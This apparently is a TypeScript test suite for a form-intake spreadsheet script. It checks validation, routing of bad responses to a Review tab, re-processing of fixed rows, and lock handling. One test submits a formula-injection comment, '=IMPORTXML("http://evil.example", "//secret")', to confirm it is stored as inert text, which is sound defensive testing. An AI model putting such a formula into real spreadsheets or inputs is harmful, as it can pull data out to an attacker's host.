/**
 * Form responses through the emulated forms and the compiled bundle: valid ones get their
 * derived fields, bad ones land in Review verbatim with a reason, none is ever lost.
 */
import { Environment } from '../../emulator/environment';
import { newProject, setUpProject, sheetValues } from './harness';
import { addMembers, CHECKIN, CONSENT, submitCheckin, submitSurvey } from './members';

const DAY = 24 * 60 * 60 * 1000;

function rowsOf(env: Environment, tab: string): Record<string, unknown>[] {
  const [headers, ...rows] = sheetValues(env, tab);
  return rows.map((row) =>
    Object.fromEntries(headers.map((header, index) => [String(header), row[index]])),
  );
}

function submissionsAccountedFor(env: Environment): number {
  return (
    rowsOf(env, 'Check-ins').length + rowsOf(env, 'Surveys').length + rowsOf(env, 'Review').length
  );
}

describe('intake of form responses', () => {
  let env: Environment;
  beforeEach(() => {
    // Wednesday 7 January 2026, 09:00: the first session is that evening.
    env = newProject({ start: Date.UTC(2026, 0, 7, 9, 0, 0) });
    setUpProject(env);
    addMembers(env, [
      { name: 'Ann', email: 'ann@example.org' },
      { name: 'Bo', email: 'bo@example.org' },
    ]);
    env.advanceBy(2 * DAY);
  });

  it('accepts a valid check-in, matching the email loosely, and derives member and session', () => {
    submitCheckin(env, '  ANN@Example.org ');
    const [row] = rowsOf(env, 'Check-ins');
    expect(row['Member ID']).toBe('M0001');
    expect(row['Processing']).toBe('ok');
    expect(
      env.utilities.global.formatDate(row['Session date'] as Date, 'Europe/London', 'yyyy-MM-dd'),
    ).toBe('2026-01-07');
    expect(env.executions.filter((execution) => !execution.ok)).toEqual([]);
  });

  it('numbers survey waves: baseline, then follow-ups', () => {
    submitSurvey(env, 'bo@example.org', 'Agree');
    env.advanceBy(90 * DAY);
    submitSurvey(env, 'bo@example.org', 'Strongly agree');
    expect(
      rowsOf(env, 'Surveys').map((row) => [row['Member ID'], row['Wave'], row['Processing']]),
    ).toEqual([
      ['M0002', 'baseline', 'ok'],
      ['M0002', 'follow-up 1', 'ok'],
    ]);
  });

  it('sends an unknown email, an out-of-range, a missing answer and a formula to Review, verbatim, and loses nothing', () => {
    submitCheckin(env, 'stranger@example.org');
    submitCheckin(env, 'ann@example.org', { mood: 7 }, true);
    env.submitForm(
      env.forms
        .all()
        .find((form) => form.getTitle() === 'Weekly check-in')!
        .getId(),
      {
        email: 'bo@example.org',
        answers: {
          [CONSENT.title]: CONSENT.agree,
          [CHECKIN.participation]: 'Online',
          [CHECKIN.mood]: 3,
          [CHECKIN.supported]: 4,
          [CHECKIN.outreach]: 'No',
        },
        raw: true,
      },
    );
    const formula = '=IMPORTXML("http://evil.example", "//secret")';
    submitCheckin(env, 'bo@example.org', { comment: formula });
    submitCheckin(env, 'ann@example.org');

    expect(rowsOf(env, 'Check-ins')).toHaveLength(1);
    const review = rowsOf(env, 'Review');
    expect(review.map((row) => row['Reason'])).toEqual([
      expect.stringMatching(/stranger@example.org does not match any member/),
      expect.stringMatching(/"7" .*out of range/),
      expect.stringMatching(
        /No answer to the required question "How well have you been coping this week\?"/,
      ),
      expect.stringMatching(/starts with "=" like a spreadsheet formula/),
    ]);
    expect(
      review.every((row) => row['Source'] === 'Check-ins' && row['Action'] === 'waiting'),
    ).toBe(true);
    expect(review[0]['Email Address']).toBe('stranger@example.org');
    expect(review[1][CHECKIN.mood]).toBe(7);
    // Stored as text, never as a formula that would run.
    expect(review[3][CHECKIN.comment]).toBe(formula);
    env.meter.internal(() => {
      const sheet = env.spreadsheet.getSheetByName('Review')!;
      expect(
        sheet
          .getDataRange()
          .getFormulas()
          .flat()
          .filter((cell) => cell !== ''),
      ).toEqual([]);
    });
    expect(submissionsAccountedFor(env)).toBe(5);
  });

  it('moves a bad survey to Review even though it is wider than a new tab (26 columns)', () => {
    // Every instrument on the form, so the survey has more questions than Review has columns.
    env.meter.internal(() => {
      const sheet = env.spreadsheet.getSheetByName('Instrument wording')!;
      const rows = sheet.getDataRange().getValues();
      rows
        .slice(1)
        .forEach((row, index) =>
          sheet.getRange(index + 2, 4).setValue(`Pasted wording ${row[0]} ${row[1]}`),
        );
    });
    expect(env.clickMenu('Set up or repair').ok).toBe(true);
    const form = env.forms
      .all()
      .find((candidate) => candidate.getTitle() === 'Wellbeing and stigma survey')!;
    const answers: Record<string, string> = {};
    for (const item of form.getItems()) {
      if (String(item.getType()) === 'MULTIPLE_CHOICE')
        answers[item.getTitle()] = item.asMultipleChoiceItem().getChoices()[0].getValue();
    }
    expect(Object.keys(answers).length).toBeGreaterThan(26);
    env.submitForm(form.getId(), { email: 'stranger@example.org', answers });
    env.submitForm(form.getId(), {
      email: 'bo@example.org',
      answers: { ...answers, [Object.keys(answers)[0]]: '9' },
      raw: true,
    });
    expect(env.executions.filter((execution) => !execution.ok)).toEqual([]);
    const review = rowsOf(env, 'Review');
    expect(review).toHaveLength(2);
    expect(Object.keys(review[1]).length).toBeGreaterThan(26);
  });

  it('lets a facilitator fix a Review row and re-process it from the menu', () => {
    submitCheckin(env, 'ann.typo@example.org');
    env.meter.internal(() => {
      const sheet = env.spreadsheet.getSheetByName('Review')!;
      const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
      sheet.getRange(2, headers.indexOf('Email Address') + 1).setValue('ann@example.org');
      sheet.getRange(2, headers.indexOf('Action') + 1).setValue('re-process');
    });
    env.openSpreadsheet();
    expect(env.clickMenu('Re-process reviewed rows').ok).toBe(true);
    expect(rowsOf(env, 'Review')).toHaveLength(0);
    const [row] = rowsOf(env, 'Check-ins');
    expect(row['Member ID']).toBe('M0001');
    expect(row['Email Address']).toBe('ann@example.org');
    expect(submissionsAccountedFor(env)).toBe(1);
  });

  it('a row still wrong after re-processing stays in Review with the new reason', () => {
    submitCheckin(env, 'who@example.org');
    env.meter.internal(() => {
      const sheet = env.spreadsheet.getSheetByName('Review')!;
      const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
      sheet.getRange(2, headers.indexOf('Action') + 1).setValue('re-process');
      sheet.getRange(2, headers.indexOf(CHECKIN.mood) + 1).setValue(0);
    });
    env.openSpreadsheet();
    env.clickMenu('Re-process reviewed rows');
    const review = rowsOf(env, 'Review');
    expect(review).toHaveLength(1);
    expect(review[0]['Reason']).toMatch(
      /out of range.*; the email who@example.org does not match any member/,
    );
    expect(review[0]['Action']).toBe('waiting');
  });

  it('keeps responses that arrive while Settings are broken pending, and processes them once fixed', () => {
    env.meter.internal(() => {
      const sheet = env.spreadsheet.getSheetByName('Settings')!;
      const values = sheet.getDataRange().getValues();
      sheet
        .getRange(values.findIndex((row) => row[0] === 'Meeting weekday') + 1, 2)
        .setValue('Funday');
    });
    submitCheckin(env, 'ann@example.org');
    const failed = env.executions.at(-1)!;
    expect(failed.ok).toBe(false);
    expect(failed.error?.message).toMatch(/Settings!B\d+ "Meeting weekday" is "Funday"/);
    expect(rowsOf(env, 'Check-ins')[0]['Processing']).toBe('');
    env.meter.internal(() => {
      const sheet = env.spreadsheet.getSheetByName('Settings')!;
      const values = sheet.getDataRange().getValues();
      sheet
        .getRange(values.findIndex((row) => row[0] === 'Meeting weekday') + 1, 2)
        .setValue('Wednesday');
    });
    env.advanceBy(DAY);
    expect(rowsOf(env, 'Check-ins')[0]['Processing']).toBe('ok');
  });

  it('20 submissions at once, interleaved under the lock, are all processed exactly once', () => {
    env.deferFormTriggers = true;
    for (let i = 0; i < 20; i += 1) {
      if (i % 5 === 4) submitCheckin(env, `stranger${i}@example.org`);
      else
        submitCheckin(env, i % 2 === 0 ? 'ann@example.org' : 'bo@example.org', {
          mood: 1 + (i % 5),
        });
    }
    // Another execution holds the lock for a while: some handlers wait, one gives up.
    env.lock.holdScriptLockUntil(env.clock.nowMs() + 20_000);
    const order = Array.from({ length: 20 }, (_, i) => (i * 7) % 20);
    const runs = env.runQueuedFormTriggers(order);
    expect(runs).toHaveLength(20);
    expect(runs.every((run) => run.ok)).toBe(true);
    expect(rowsOf(env, 'Check-ins')).toHaveLength(16);
    expect(rowsOf(env, 'Check-ins').every((row) => row['Processing'] === 'ok')).toBe(true);
    expect(rowsOf(env, 'Review')).toHaveLength(4);
    expect(new Set(rowsOf(env, 'Review').map((row) => row['Response key'])).size).toBe(4);
    expect(submissionsAccountedFor(env)).toBe(20);
  });

  it('a submission whose handler could not get the lock is picked up by the daily run', () => {
    env.lock.holdScriptLockUntil(env.clock.nowMs() + 10 * 60 * 1000);
    submitCheckin(env, 'ann@example.org');
    expect(rowsOf(env, 'Check-ins')[0]['Processing']).toBe('');
    env.advanceBy(DAY);
    expect(rowsOf(env, 'Check-ins')[0]['Processing']).toBe('ok');
  });
});
